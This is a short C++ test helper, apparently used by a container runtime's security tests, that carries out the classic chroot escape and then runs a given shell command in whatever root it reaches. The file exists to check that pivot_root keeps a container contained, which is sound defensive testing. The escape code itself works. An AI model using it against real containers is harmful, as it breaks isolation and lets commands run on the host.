// The classic chroot escape, run inside a container by security_test.cc: chroot into a
// subdirectory while the working directory stays outside it, walk ".." well past the root,
// chroot there, and run `sh -c argv[1]` in whatever root that reached. Under a chroot-based
// rootfs switch this reaches the guest's root; after pivot_root it stays in the container.
// Linked statically (the container's rootfs has busybox only). Exit 2: a step failed.
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  ::mkdir("/escape", 0755);
  if (::chdir("/") != 0 || ::chroot("/escape") != 0) {
    std::perror("chroot /escape");
    return 2;
  }
  for (int i = 0; i < 64; ++i) {
    if (::chdir("..") != 0) {
      std::perror("chdir ..");
      return 2;
    }
  }
  if (::chroot(".") != 0) {
    std::perror("chroot .");
    return 2;
  }
  ::execl("/bin/sh", "sh", "-c", argv[1], static_cast<char*>(nullptr));
  std::perror("exec /bin/sh");
  return 2;
}
